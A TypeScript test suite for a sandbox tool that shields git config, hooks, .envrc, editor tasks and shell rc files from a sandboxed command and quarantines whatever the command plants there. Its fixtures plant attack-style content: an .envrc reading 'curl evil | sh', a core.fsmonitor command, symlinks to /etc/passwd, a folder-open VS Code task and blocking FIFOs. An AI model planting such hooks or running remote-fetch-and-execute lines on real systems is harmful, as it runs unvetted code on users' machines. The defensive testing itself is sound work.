// Threat (review 2026-12-04 finding 2; finding 4 for creating through the opened tree): the
// command writes what the caller's own tools run unconfined afterwards: .git/config (core.fsmonitor),
// .git/hooks, a worktree's commondir, .envrc, shell rc files, .vscode tasks. So every such name that
// exists in a writable tree is bound read-only (a git directory pinned); a symlink there, a root `.git`
// or a nested `.git` included, is refused (binding would follow it). A name missing in a git directory
// is created for good, as git would leave it (empty hooks/ and info/, commondir "."), without following
// anything, and git keeps working. A name missing at a root is never created (an empty .npmrc would be
// committed): it is watched, and whatever the command leaves there is moved aside after the run without
// being opened (a FIFO must not hang the caller), never over an earlier quarantine. Pointer files are
// read non-blocking and without following links, so a planted FIFO cannot hang the next `sluice run`.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { spawnSync, type SpawnSyncReturns } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ts from 'typescript';
import {
  createMissing, planProtections, PROTECTED_ROOT_DIRS, PROTECTED_ROOT_FILES, quarantine, type Protection,
} from '../../../src/cli/caller-tree.js';
import { scanTrees, type TreeScan } from '../../../src/cli/tree-scan.js';

let base: string;
let counter = 0;
const ROOT_NAMES = [...PROTECTED_ROOT_FILES, ...PROTECTED_ROOT_DIRS, '.git'];
const GIT_FILES = ['config', 'config.worktree', 'commondir'];
const GIT_DIRS = ['hooks', 'info'];

function fresh(name: string): string {
  const dir = path.join(base, `${name}-${++counter}`);
  fs.mkdirSync(dir, { recursive: true });
  return dir;
}

function gitRun(cwd: string, ...args: string[]): SpawnSyncReturns<string> {
  return spawnSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', '-c', 'init.defaultBranch=main', ...args], {
    cwd, encoding: 'utf8', env: { PATH: process.env['PATH'] ?? '', HOME: base, GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null' },
  });
}

function git(cwd: string, ...args: string[]): string {
  const r = gitRun(cwd, ...args);
  expect(r.status, `git ${args.join(' ')}: ${r.stderr}`).toBe(0);
  return r.stdout;
}

/** A repository as `git init` leaves it, with one commit. */
function repo(name: string): string {
  const dir = fresh(name);
  git(dir, 'init', '-q');
  git(dir, 'commit', '-q', '--allow-empty', '-m', 'initial');
  return dir;
}

function planned(roots: readonly string[], unprotect: readonly string[] = [], scan: TreeScan = scanTrees(roots)): { protections: Protection[]; watched: string[] } {
  const result = planProtections(roots, scan, unprotect);
  if (!result.ok) throw new Error(result.message);
  return { protections: [...result.protections], watched: [...result.watched] };
}

function plan(roots: readonly string[], unprotect: readonly string[] = [], scan?: TreeScan): Map<string, Protection> {
  return new Map(planned(roots, unprotect, scan).protections.map((p) => [p.path, p]));
}

/** Every entry under `dir`: relative path, type and size (what "unchanged" means for a tree). */
function listing(dir: string): string[] {
  const out: string[] = [];
  const walk = (d: string): void => {
    for (const e of fs.readdirSync(d, { withFileTypes: true })) {
      const p = path.join(d, e.name);
      const st = fs.lstatSync(p);
      out.push(`${path.relative(dir, p)} ${e.isDirectory() ? 'dir' : e.isSymbolicLink() ? 'link' : e.isFIFO() ? 'fifo' : 'file'} ${e.isDirectory() ? '' : st.size}`);
      if (e.isDirectory()) walk(p);
    }
  };
  walk(dir);
  return out.sort();
}

function mkfifo(p: string): void {
  expect(spawnSync('mkfifo', [p]).status).toBe(0);
}

/**
 * Runs `code` in a child Node with caller-tree's exports as `ct`, bounded by a timeout: a blocking open
 * of a FIFO would hang this worker for good, where a child can be killed and reported.
 */
function inChild(code: string): SpawnSyncReturns<string> {
  const module = path.join(base, 'caller-tree.mjs');
  if (!fs.existsSync(module)) {
    // caller-tree.ts and the one sibling it imports (paths.ts), each transpiled from the source.
    for (const name of ['paths', 'caller-tree']) {
      const js = ts.transpileModule(fs.readFileSync(new URL(`../../../src/cli/${name}.ts`, import.meta.url), 'utf8'), {
        compilerOptions: { module: ts.ModuleKind.ESNext, target: ts.ScriptTarget.ES2022 },
      }).outputText;
      fs.writeFileSync(path.join(base, `${name}.mjs`), js.replace("from './paths.js'", "from './paths.mjs'"));
    }
  }
  return spawnSync(process.execPath, ['--input-type=module', '-e', `import * as ct from ${JSON.stringify(`file://${module}`)};\n${code}`], { encoding: 'utf8', timeout: 5000 });
}

beforeAll(() => {
  base = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'sluice-caller-tree-')));
});
afterAll(() => fs.rmSync(base, { recursive: true, force: true }));

describe('planProtections', () => {
  it('protects every listed root name that exists, read-only as it is; the missing ones are watched, not protected, and nothing is created', () => {
    const r1 = fresh('root');
    const r2 = fresh('root');
    fs.writeFileSync(path.join(r1, '.envrc'), 'export A=1\n');
    fs.mkdirSync(path.join(r1, '.vscode'));
    const before = [listing(r1), listing(r2)];
    const { protections, watched } = planned([r1, r2]);
    expect(protections.sort((a, b) => a.path.localeCompare(b.path))).toEqual([
      { path: path.join(r1, '.envrc'), mode: 'readonly', create: null },
      { path: path.join(r1, '.vscode'), mode: 'readonly', create: null },
    ]);
    const expected = [r1, r2].flatMap((root) => ROOT_NAMES.map((name) => path.join(root, name)))
      .filter((p) => p !== path.join(r1, '.envrc') && p !== path.join(r1, '.vscode'));
    expect([...watched].sort()).toEqual(expected.sort());
    expect([listing(r1), listing(r2)]).toEqual(before);
  });

  it('pins a git directory and protects its config, config.worktree, commondir, hooks and info as they are; creates the missing hooks, info and commondir', () => {
    const r = repo('repo');
    fs.writeFileSync(path.join(r, '.git/config.worktree'), '');
    fs.writeFileSync(path.join(r, '.git/commondir'), '.\n');
    const p = plan([r]);
    expect(p.get(path.join(r, '.git'))).toEqual({ path: path.join(r, '.git'), mode: 'pin', create: null });
    for (const name of [...GIT_FILES, ...GIT_DIRS]) expect(p.get(path.join(r, '.git', name))).toEqual({ path: path.join(r, '.git', name), mode: 'readonly', create: null });

    const bare = repo('repo-missing');
    fs.rmSync(path.join(bare, '.git/hooks'), { recursive: true, force: true });
    fs.rmSync(path.join(bare, '.git/info'), { recursive: true, force: true });
    const { protections, watched } = planned([bare]);
    const q = new Map(protections.map((x) => [x.path, x]));
    expect(q.get(path.join(bare, '.git'))).toEqual({ path: path.join(bare, '.git'), mode: 'pin', create: null });
    expect(q.get(path.join(bare, '.git/config'))?.create).toBeNull();
    expect(q.get(path.join(bare, '.git/hooks'))).toEqual({ path: path.join(bare, '.git/hooks'), mode: 'readonly', create: { kind: 'dir', content: '' } });
    expect(q.get(path.join(bare, '.git/info'))).toEqual({ path: path.join(bare, '.git/info'), mode: 'readonly', create: { kind: 'dir', content: '' } });
    expect(q.get(path.join(bare, '.git/commondir'))).toEqual({ path: path.join(bare, '.git/commondir'), mode: 'readonly', create: { kind: 'file', content: '.\n' } });
    // git reads config.worktree only under extensions.worktreeConfig, which only the protected config sets.
    expect(q.has(path.join(bare, '.git/config.worktree'))).toBe(false);
    expect(watched).not.toContain(path.join(bare, '.git/config.worktree'));
    // Nothing inside a git directory is watched, and the root's existing .git is not.
    expect(watched.filter((w) => w === path.join(bare, '.git') || w.startsWith(`${path.join(bare, '.git')}/`))).toEqual([]);
    expect(fs.existsSync(path.join(bare, '.git/hooks'))).toBe(false); // planning creates nothing
  });

  it('a root without .git: .git is watched, neither protected nor created, and nothing inside it is planned', () => {
    const r = fresh('no-git');
    const { protections, watched } = planned([r]);
    expect(protections).toEqual([]);
    expect(watched).toContain(path.join(r, '.git'));
    expect(watched.filter((w) => w.startsWith(`${path.join(r, '.git')}/`))).toEqual([]);
    expect(fs.readdirSync(r)).toEqual([]);
  });

  // A git directory without a config file is still a repository to git (HEAD, objects, refs suffice).
  // The command writes one with core.fsmonitor there, and the caller's next `git status` runs it: a
  // missing config must be covered like the other names (an empty config is what git means by absent).
  it('a git directory without config: the config the caller’s git would read there is protected, created or watched', () => {
    const r = repo('no-config');
    fs.rmSync(path.join(r, '.git/config'));
    git(r, 'status'); // still a repository
    const marker = path.join(base, `fsmonitor-ran-${counter}`);
    const { protections, watched } = planned([r]);
    const config = path.join(r, '.git/config');
    // The threat is real: written after the plan, it is read and run.
    fs.writeFileSync(config, `[core]\n\tfsmonitor = touch ${marker}; false\n`);
    gitRun(r, 'status');
    expect(fs.existsSync(marker), 'git ran the planted core.fsmonitor').toBe(true);
    expect(protections.some((p) => p.path === config) || watched.includes(config), `${config} is neither protected nor watched`).toBe(true);
  });

  it('covers linked worktrees and nested repositories the walk finds', () => {
    const r = repo('wt');
    git(r, 'worktree', 'add', '-q', 'wt');
    fs.mkdirSync(path.join(r, 'sub'));
    git(path.join(r, 'sub'), 'init', '-q');
    const p = plan([r]);
    for (const dir of ['.git', '.git/worktrees/wt', 'sub/.git']) {
      expect(p.get(path.join(r, dir))?.mode).toBe('pin');
      for (const name of [...GIT_FILES, ...GIT_DIRS]) {
        const file = path.join(r, dir, name);
        if (fs.existsSync(file)) expect(p.get(file), file).toEqual({ path: file, mode: 'readonly', create: null });
      }
      for (const name of GIT_DIRS) expect(p.get(path.join(r, dir, name))?.mode).toBe('readonly');
      expect(p.get(path.join(r, dir, 'commondir'))?.mode).toBe('readonly');
    }
    expect(p.get(path.join(r, 'wt/.git'))).toEqual({ path: path.join(r, 'wt/.git'), mode: 'readonly', create: null });
    expect(p.get(path.join(r, '.git/worktrees/wt/commondir'))?.create).toBeNull(); // git wrote "../.."
    expect(p.get(path.join(r, '.git/worktrees/wt/hooks'))?.create).toEqual({ kind: 'dir', content: '' });
  });

  it('follows a .git file to its gitdir and that one’s commondir inside a writable root, not outside (nor a sibling sharing the prefix)', () => {
    const r = fresh('gitfile');
    const store = path.join(r, 'store');
    fs.mkdirSync(path.join(store, 'main'), { recursive: true });
    fs.writeFileSync(path.join(store, 'main/config'), '');
    fs.mkdirSync(path.join(store, 'gd'));
    fs.writeFileSync(path.join(store, 'gd/commondir'), '../main\n');
    fs.mkdirSync(path.join(r, 'inner'));
    fs.writeFileSync(path.join(r, 'inner/.git'), 'gitdir: ../store/gd\n');
    const outsideGd = path.join(base, `elsewhere-gd-${counter}`);
    const sibling = `${r}-sibling/gd`; // `${r}-sibling` starts with `${r}` but lies outside it
    fs.mkdirSync(outsideGd, { recursive: true });
    fs.mkdirSync(sibling, { recursive: true });
    fs.mkdirSync(path.join(r, 'out1'));
    fs.mkdirSync(path.join(r, 'out2'));
    fs.writeFileSync(path.join(r, 'out1/.git'), `gitdir: ${outsideGd}\n`);
    fs.writeFileSync(path.join(r, 'out2/.git'), `gitdir: ${sibling}\n`);
    const p = plan([r]);
    expect(p.get(path.join(store, 'gd'))?.mode).toBe('pin');
    expect(p.get(path.join(store, 'gd/commondir'))).toEqual({ path: path.join(store, 'gd/commondir'), mode: 'readonly', create: null });
    expect(p.get(path.join(store, 'main'))?.mode).toBe('pin');
    expect(p.get(path.join(store, 'main/config'))).toEqual({ path: path.join(store, 'main/config'), mode: 'readonly', create: null });
    expect(p.get(path.join(store, 'main/commondir'))?.create).toEqual({ kind: 'file', content: '.\n' });
    for (const f of ['inner/.git', 'out1/.git', 'out2/.git']) expect(p.get(path.join(r, f))?.mode).toBe('readonly');
    expect([...p.keys()].filter((k) => k.startsWith(outsideGd) || k.startsWith(`${r}-sibling`))).toEqual([]);
  });

  it('--unprotect removes that path and what lies below it from the protections and the watched list, and nothing that merely shares its prefix', () => {
    const r = repo('unprotect');
    const { protections, watched } = planned([r], [path.join(r, '.envrc'), path.join(r, '.git')]);
    const all = [...protections.map((p) => p.path), ...watched];
    expect(all).not.toContain(path.join(r, '.envrc'));
    expect(all.filter((k) => k === path.join(r, '.git') || k.startsWith(path.join(r, '.git/')))).toEqual([]);
    for (const name of ['.gitmodules', '.gitconfig', '.bashrc']) expect(watched).toContain(path.join(r, name));
    // An existing name that shares the prefix stays protected.
    fs.writeFileSync(path.join(r, '.gitmodules'), '');
    expect(plan([r], [path.join(r, '.git')]).get(path.join(r, '.gitmodules'))?.mode).toBe('readonly');
  });

  it.each([
    ['.envrc', '/etc/passwd'],
    ['.vscode', '/etc'],
    ['.zshrc', '/no/such/target'],
    ['.git/hooks', '/tmp'],
    ['.git/info', '/no/such/dir'],
    ['.git/config', '/etc/passwd'],
    ['.git/commondir', '/no/such/common'],
    ['.git', '/no/such/git-dir'],
  ])('refuses a protected name that is a symlink (%s -> %s), naming it, unless unprotected', (name, target) => {
    const r = repo('symlink');
    fs.rmSync(path.join(r, name), { recursive: true, force: true });
    fs.symlinkSync(target, path.join(r, name));
    const result = planProtections([r], scanTrees([r]), []);
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.message).toContain(`${path.join(r, name)} is a symlink`);
    const opted = planProtections([r], scanTrees([r]), [path.join(r, name)]);
    expect(opted.ok).toBe(true);
  });

  // A `.git` symlink at a root is neither pinned nor refused: the command can write through it
  // (git config core.fsmonitor …) or replace it with a directory of its own, and the caller's next
  // `git status` there runs what it planted.
  it('refuses a root whose .git is a symlink (to a git directory in the tree)', () => {
    const r = repo('dotgit-link');
    fs.renameSync(path.join(r, '.git'), path.join(r, 'real.git'));
    fs.symlinkSync('real.git', path.join(r, '.git'));
    git(r, 'status'); // git follows it
    const result = planProtections([r], scanTrees([r]), []);
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.message).toContain(`${path.join(r, '.git')} is a symlink`);
  });

  // The same below the root: the walk never follows the link, so what it names is neither pinned nor
  // protected, and `git status` in that directory follows it.
  it('refuses a nested .git symlink the walk found (scan.gitLinks), to a git directory inside the tree or outside, unless unprotected', () => {
    for (const inside of [true, false]) {
      const r = repo('nested-link');
      const target = inside ? path.join(r, 'store.git') : path.join(base, `outside-git-${counter}`);
      fs.mkdirSync(path.join(r, 'sub'));
      git(path.join(r, 'sub'), 'init', '-q');
      fs.renameSync(path.join(r, 'sub/.git'), target);
      fs.symlinkSync(target, path.join(r, 'sub/.git'));
      git(path.join(r, 'sub'), 'status'); // git follows it
      const scan = scanTrees([r]);
      expect(scan.gitLinks).toEqual([path.join(r, 'sub/.git')]);
      const result = planProtections([r], scan, []);
      expect(result.ok).toBe(false);
      if (!result.ok) expect(result.message).toContain(`${path.join(r, 'sub/.git')} is a symlink`);
      expect(planProtections([r], scan, [path.join(r, 'sub')]).ok).toBe(true);
    }
  });

  // A previous sandbox of the tree leaves `sub/.git` (gitdir: ../gd) and gd/commondir as a FIFO, or
  // the `.git` file itself turned into a FIFO after the walk: reading them must not hang the next
  // `sluice run` (run in a child: a blocked read cannot time out here).
  it('does not block on a FIFO the command planted as a .git file or a linked git directory’s commondir', () => {
    const r = fresh('fifo');
    fs.mkdirSync(path.join(r, 'sub'));
    fs.mkdirSync(path.join(r, 'gd'));
    fs.writeFileSync(path.join(r, 'sub/.git'), 'gitdir: ../gd\n');
    mkfifo(path.join(r, 'gd/commondir'));
    fs.mkdirSync(path.join(r, 'sub2'));
    mkfifo(path.join(r, 'sub2/.git'));
    const scan: TreeScan = { sockets: [], gitDirs: [], gitFiles: [path.join(r, 'sub/.git'), path.join(r, 'sub2/.git')], gitLinks: [], isTruncated: false };
    const child = inChild(`const r = ct.planProtections([${JSON.stringify(r)}], ${JSON.stringify(scan)}, []);
      console.log(JSON.stringify(r));`);
    expect(child.signal, 'planProtections blocked reading a FIFO').toBeNull();
    expect(child.stderr).toBe('');
    const result = JSON.parse(child.stdout) as { ok: boolean; protections: Protection[] };
    expect(result.ok).toBe(true);
    // The gitdir was still followed (its FIFO commondir bound as it is; not read as a pointer).
    expect(result.protections.find((p) => p.path === path.join(r, 'gd'))?.mode).toBe('pin');
    expect(result.protections.find((p) => p.path === path.join(r, 'gd/commondir'))).toMatchObject({ mode: 'readonly', create: null });
  });

  // A commondir that is a symlink (to a FIFO, or to a directory outside) is not read through: the plan
  // refuses it by name instead.
  it('does not read a linked git directory’s commondir through a symlink; refuses it', () => {
    const r = fresh('commondir-link');
    const fifo = path.join(base, `fifo-${counter}`);
    mkfifo(fifo);
    fs.mkdirSync(path.join(r, 'sub'));
    fs.mkdirSync(path.join(r, 'gd'));
    fs.writeFileSync(path.join(r, 'sub/.git'), 'gitdir: ../gd\n');
    fs.symlinkSync(fifo, path.join(r, 'gd/commondir'));
    const child = inChild(`const r = ct.planProtections([${JSON.stringify(r)}], ${JSON.stringify(scanTrees([r]))}, []);
      console.log(JSON.stringify(r));`);
    expect(child.signal, 'planProtections blocked reading through a symlink to a FIFO').toBeNull();
    const result = JSON.parse(child.stdout) as { ok: boolean; message: string };
    expect(result.ok).toBe(false);
    expect(result.message).toContain(`${path.join(r, 'gd/commondir')} is a symlink`);
  });
});

describe('quarantine (the watched names)', () => {
  it('moves aside whatever the command left at a watched name (file, directory, FIFO, symlink), never opening it, reporting from → to; skips the missing', () => {
    const r = fresh('quarantine');
    fs.writeFileSync(path.join(r, '.bashrc'), 'echo mine\n'); // the caller's own: protected, not watched
    const { watched } = planned([r]);
    expect(watched).not.toContain(path.join(r, '.bashrc'));
    // What the command does during the run:
    fs.writeFileSync(path.join(r, '.envrc'), 'curl evil | sh\n');
    fs.mkdirSync(path.join(r, '.vscode'));
    fs.writeFileSync(path.join(r, '.vscode/tasks.json'), '{"runOn":"folderOpen"}');
    mkfifo(path.join(r, '.npmrc'));
    fs.symlinkSync('/etc/passwd', path.join(r, '.zshrc'));
    fs.symlinkSync('/no/such/target', path.join(r, '.profile'));
    fs.writeFileSync(path.join(r, 'other.txt'), 'unwatched\n');
    const child = inChild(`console.log(JSON.stringify(ct.quarantine(${JSON.stringify(asWatched(watched))})));`);
    expect(child.signal, 'quarantine blocked on the FIFO').toBeNull();
    expect(child.stderr).toBe('');
    const moved = JSON.parse(child.stdout) as string[];
    const names = ['.envrc', '.npmrc', '.profile', '.vscode', '.zshrc'];
    expect([...moved].sort()).toEqual(names.map((n) => `${path.join(r, n)} → ${quarantined(path.join(r, n))}`).sort());
    for (const n of names) expect(fs.lstatSync(path.join(r, n), { throwIfNoEntry: false })).toBeUndefined();
    expect(fs.readFileSync(quarantined(path.join(r, '.envrc')) ?? '', 'utf8')).toBe('curl evil | sh\n');
    expect(fs.readdirSync(quarantined(path.join(r, '.vscode')) ?? '')).toEqual(['tasks.json']);
    expect(fs.lstatSync(quarantined(path.join(r, '.npmrc')) ?? '').isFIFO()).toBe(true);
    expect(fs.readlinkSync(quarantined(path.join(r, '.zshrc')) ?? '')).toBe('/etc/passwd');
    expect(fs.readlinkSync(quarantined(path.join(r, '.profile')) ?? '')).toBe('/no/such/target');
    expect(fs.lstatSync('/etc/passwd').isFile()).toBe(true);
    expect(fs.readFileSync(path.join(r, '.bashrc'), 'utf8')).toBe('echo mine\n');
    expect(fs.readFileSync(path.join(r, 'other.txt'), 'utf8')).toBe('unwatched\n');
  });

  it('returns nothing and touches nothing when the command left no watched name', () => {
    const r = repo('quiet');
    fs.writeFileSync(path.join(r, '.envrc'), 'export A=1\n');
    const { watched } = planned([r]);
    fs.writeFileSync(path.join(r, '.envrc'), 'export A=2\n'); // an existing name is the bind's business
    const before = listing(r);
    expect(quarantine(asWatched(watched))).toEqual([]);
    expect(listing(r)).toEqual(before);
  });

  // The target is unguessable: the command cannot plant it beforehand (rename(2) would replace it).
  it('never moves over an earlier quarantine: each move gets a fresh unguessable name', () => {
    const r = fresh('taken');
    const { watched } = planned([r]);
    const moves: string[] = [];
    for (const content of ['first\n', 'second\n']) {
      fs.writeFileSync(path.join(r, '.envrc'), content);
      const [line] = quarantine(asWatched(watched));
      expect(line).toMatch(new RegExp(`^${path.join(r, '.envrc').replace(/[.]/g, '\\.')} → .*\\.envrc\\.sluice-quarantine-[0-9a-f]{12}$`));
      moves.push((line ?? '').split(' → ')[1] ?? '');
    }
    expect(new Set(moves).size).toBe(2);
    expect(moves.map((m) => fs.readFileSync(m, 'utf8'))).toEqual(['first\n', 'second\n']);
    expect(fs.existsSync(path.join(r, '.envrc'))).toBe(false);
  });

  // The quarantine names are not watched: the command can take them all beforehand. What it then
  // leaves at the watched name must still be moved, or at least reported; left silently in place,
  // the caller's direnv or git runs it.
  it('a watched name the command left while every quarantine name is taken is moved or reported, never left silently', () => {
    const r = fresh('all-taken');
    const { watched } = planned([r]);
    fs.writeFileSync(path.join(r, '.envrc.sluice-quarantine'), '');
    for (let n = 1; n < 100; n++) fs.writeFileSync(path.join(r, `.envrc.sluice-quarantine-${n}`), '');
    fs.writeFileSync(path.join(r, '.envrc'), 'curl evil | sh\n');
    const moved = quarantine(asWatched(watched));
    const reported = moved.some((m) => m.startsWith(`${path.join(r, '.envrc')} `));
    expect(reported || !fs.existsSync(path.join(r, '.envrc')), `${path.join(r, '.envrc')} left in place and not reported: ${JSON.stringify(moved)}`).toBe(true);
  });

  it('a .git the command made at a root that had none (core.fsmonitor in its config) is moved aside before the caller’s git reads it', () => {
    const outer = repo('outer-q');
    const r = path.join(outer, 'sub');
    fs.mkdirSync(r);
    const { watched } = planned([r]);
    expect(watched).toContain(path.join(r, '.git'));
    const marker = path.join(base, `fsmonitor-q-${counter}`);
    // The command: a repository of its own at the root, with a hook the caller's git would run.
    git(r, 'init', '-q');
    git(r, 'config', 'core.fsmonitor', `touch ${marker}; false`);
    expect(git(r, 'rev-parse', '--show-toplevel').trim()).toBe(r);
    const [line] = quarantine(asWatched(watched));
    expect(line).toBe(`${path.join(r, '.git')} → ${quarantined(path.join(r, '.git'))}`);
    expect(git(r, 'rev-parse', '--show-toplevel').trim()).toBe(outer);
    git(r, 'status');
    expect(fs.existsSync(marker)).toBe(false);
  });
});

/** Watched names reached by their own path (the plan's `via` through a tree's descriptor is sandbox-plan's). */
function asWatched(paths: readonly string[]): { path: string; via: string }[] {
  return paths.map((p) => ({ path: p, via: p }));
}

/** The one quarantined sibling of `file` (`<file>.sluice-quarantine-<random hex>`), or null. */
function quarantined(file: string): string | null {
  const found = fs.readdirSync(path.dirname(file)).filter((n) => new RegExp(`^${path.basename(file).replace(/[.]/g, '\\.')}\\.sluice-quarantine-[0-9a-f]{12}$`).test(n));
  return found.length === 1 ? path.join(path.dirname(file), found[0] ?? '') : null;
}

describe('createMissing', () => {
  it('creates exactly the missing ones in git directories (empty hooks/ and info/, commondir ".\\n"), parents first, nothing at the root; they stay for good', () => {
    const r = repo('create');
    fs.rmSync(path.join(r, '.git/hooks'), { recursive: true });
    fs.rmSync(path.join(r, '.git/info'), { recursive: true });
    fs.writeFileSync(path.join(r, '.bashrc'), 'echo mine\n');
    const rootBefore = fs.readdirSync(r).sort();
    const gitBefore = listing(path.join(r, '.git'));
    const { protections } = planned([r]);
    const created = createMissing(protections);
    expect(created.map((p) => p.path).sort()).toEqual(protections.map((p) => p.path).sort());
    for (const p of created) {
      const st = fs.lstatSync(p.path);
      if (p.create === null) continue;
      if (p.create.kind === 'dir') {
        expect(st.isDirectory()).toBe(true);
        expect(fs.readdirSync(p.path)).toEqual([]);
      } else {
        expect(st.isFile()).toBe(true);
        expect(fs.readFileSync(p.path, 'utf8')).toBe('.\n');
      }
      expect(st.mode & 0o022).toBe(0);
    }
    const depth = created.map((p) => p.path.length);
    expect(depth).toEqual([...depth].sort((a, b) => a - b));
    expect(listing(path.join(r, '.git')).filter((l) => !gitBefore.includes(l)).sort()).toEqual(['commondir file 2', 'hooks dir ', 'info dir ']);
    expect(fs.readFileSync(path.join(r, '.bashrc'), 'utf8')).toBe('echo mine\n');
    expect(fs.readdirSync(r).sort()).toEqual(rootBefore);
    // A later run finds them as names that exist: protected as they are, nothing to create, nothing removed.
    const again = planned([r]).protections;
    expect(again.filter((p) => p.create !== null)).toEqual([]);
    expect(createMissing(again).map((p) => p.path).sort()).toEqual(again.map((p) => p.path).sort());
    expect(listing(path.join(r, '.git')).filter((l) => !gitBefore.includes(l)).sort()).toEqual(['commondir file 2', 'hooks dir ', 'info dir ']);
  });

  it('treats one that appeared between plan and creation as existing (create null), and leaves it as it is', () => {
    const r = repo('appeared');
    fs.rmSync(path.join(r, '.git/hooks'), { recursive: true });
    const { protections } = planned([r]);
    fs.mkdirSync(path.join(r, '.git/hooks'));
    fs.writeFileSync(path.join(r, '.git/hooks/pre-commit'), '#!/bin/sh\n');
    fs.writeFileSync(path.join(r, '.git/commondir'), '../elsewhere\n');
    const created = createMissing(protections);
    expect(created.find((p) => p.path === path.join(r, '.git/hooks'))).toEqual({ path: path.join(r, '.git/hooks'), mode: 'readonly', create: null });
    expect(created.find((p) => p.path === path.join(r, '.git/commondir'))).toEqual({ path: path.join(r, '.git/commondir'), mode: 'readonly', create: null });
    expect(fs.readdirSync(path.join(r, '.git/hooks'))).toEqual(['pre-commit']);
    expect(fs.readFileSync(path.join(r, '.git/commondir'), 'utf8')).toBe('../elsewhere\n');
  });

  it('never creates through a symlink that appeared between plan and creation, and does not return it', () => {
    const r = repo('race-link');
    fs.rmSync(path.join(r, '.git/hooks'), { recursive: true });
    const target = path.join(base, `race-target-${counter}`);
    fs.mkdirSync(target);
    const { protections } = planned([r]);
    fs.symlinkSync(target, path.join(r, '.git/hooks'));
    fs.symlinkSync(path.join(target, 'planted'), path.join(r, '.git/commondir'));
    const created = createMissing(protections);
    expect(fs.readdirSync(target)).toEqual([]);
    for (const name of ['hooks', 'commondir']) expect(created.find((p) => p.path === path.join(r, '.git', name))).toBeUndefined();
    expect(fs.lstatSync(path.join(r, '.git/hooks')).isSymbolicLink()).toBe(true);
    expect(fs.lstatSync(path.join(r, '.git/commondir')).isSymbolicLink()).toBe(true);
  });

  it('drops one whose parent is gone (the command could not create it there either)', () => {
    const r = fresh('parent-gone');
    fs.mkdirSync(path.join(r, 'sub'));
    git(path.join(r, 'sub'), 'init', '-q');
    fs.rmSync(path.join(r, 'sub/.git/hooks'), { recursive: true });
    const { protections } = planned([r]);
    expect(protections.filter((p) => p.create !== null).map((p) => path.basename(p.path)).sort()).toEqual(['commondir', 'hooks']);
    fs.rmSync(path.join(r, 'sub'), { recursive: true });
    const created = createMissing(protections);
    expect(created.filter((p) => p.create !== null)).toEqual([]);
    expect(fs.existsSync(path.join(r, 'sub'))).toBe(false);
  });

  // Finding 4: the tree is swapped for a symlink after it was opened; creating by path would follow it.
  it('creates through `via` (the opened tree’s descriptor), so a tree swapped for a symlink meanwhile does not get them elsewhere', () => {
    const r = repo('via');
    fs.rmSync(path.join(r, '.git/hooks'), { recursive: true });
    fs.rmSync(path.join(r, '.git/info'), { recursive: true });
    const outside = path.join(base, `via-outside-${counter}`);
    fs.mkdirSync(path.join(outside, '.git'), { recursive: true });
    const { protections } = planned([r]);
    const fd = fs.openSync(r, fs.constants.O_RDONLY | fs.constants.O_DIRECTORY | fs.constants.O_NOFOLLOW);
    try {
      fs.renameSync(r, `${r}-moved`);
      fs.symlinkSync(outside, r);
      const created = createMissing(protections, (p) => p.replace(r, `/proc/self/fd/${fd}`));
      expect(created.filter((p) => p.create !== null).map((p) => path.basename(p.path)).sort()).toEqual(['commondir', 'hooks', 'info']);
    } finally {
      fs.closeSync(fd);
    }
    expect(fs.readdirSync(path.join(outside, '.git'))).toEqual([]);
    expect(fs.statSync(path.join(`${r}-moved`, '.git/hooks')).isDirectory()).toBe(true);
    expect(fs.readFileSync(path.join(`${r}-moved`, '.git/commondir'), 'utf8')).toBe('.\n');
  });
});

describe('real git with what createMissing leaves', () => {
  it('works in a repository: status, rev-parse --git-common-dir, worktree add and list, commit, gc, fsck', () => {
    const r = repo('git-real');
    fs.rmSync(path.join(r, '.git/hooks'), { recursive: true });
    fs.rmSync(path.join(r, '.git/info'), { recursive: true });
    fs.writeFileSync(path.join(r, 'file.txt'), 'x\n');
    git(r, 'add', 'file.txt');
    git(r, 'commit', '-q', '-m', 'file');
    const config = fs.readFileSync(path.join(r, '.git/config'), 'utf8');
    createMissing(planned([r]).protections);
    expect(fs.readFileSync(path.join(r, '.git/commondir'), 'utf8')).toBe('.\n');
    // Nothing shows: nothing was created at the root, and empty directories in .git are git's own.
    expect(git(r, 'status', '--porcelain')).toBe('');
    expect(path.resolve(r, git(r, 'rev-parse', '--git-common-dir').trim())).toBe(path.join(r, '.git'));
    const wt = `${r}-wt`;
    git(r, 'worktree', 'add', '-q', wt);
    expect(git(r, 'worktree', 'list')).toContain(wt);
    expect(path.resolve(wt, git(wt, 'rev-parse', '--git-common-dir').trim())).toBe(path.join(r, '.git'));
    fs.writeFileSync(path.join(wt, 'other.txt'), 'y\n');
    git(wt, 'add', 'other.txt');
    git(wt, 'commit', '-q', '-m', 'from the worktree');
    fs.writeFileSync(path.join(r, 'file.txt'), 'z\n');
    git(r, 'commit', '-q', '-am', 'second');
    expect(git(r, 'log', '--all', '--format=%s').split('\n')).toEqual(expect.arrayContaining(['second', 'from the worktree', 'file']));
    git(r, 'gc', '-q');
    git(r, 'fsck', '--no-progress');
    expect(fs.readFileSync(path.join(r, '.git/commondir'), 'utf8')).toBe('.\n');
    expect(fs.readFileSync(path.join(r, '.git/config'), 'utf8')).toBe(config);
    // A later run over the tree with the worktree covers it and creates nothing more that git notices.
    const again = plan([r, wt]);
    expect(again.get(path.join(r, '.git/worktrees', path.basename(wt)))?.mode).toBe('pin');
    expect(again.get(path.join(wt, '.git'))?.mode).toBe('readonly');
    createMissing([...again.values()]);
    expect(git(r, 'status', '--porcelain')).toBe('');
    expect(git(wt, 'status', '--porcelain')).toBe('');
    git(r, 'fsck', '--no-progress');
  });

  it('a root without .git inside a repository gets nothing: git finds the repository above', () => {
    const outer = repo('outer');
    const r = path.join(outer, 'sub');
    fs.mkdirSync(r);
    createMissing(planned([r]).protections);
    expect(fs.readdirSync(r)).toEqual([]);
    expect(git(r, 'rev-parse', '--show-toplevel').trim()).toBe(outer);
    git(r, 'status');
  });
});
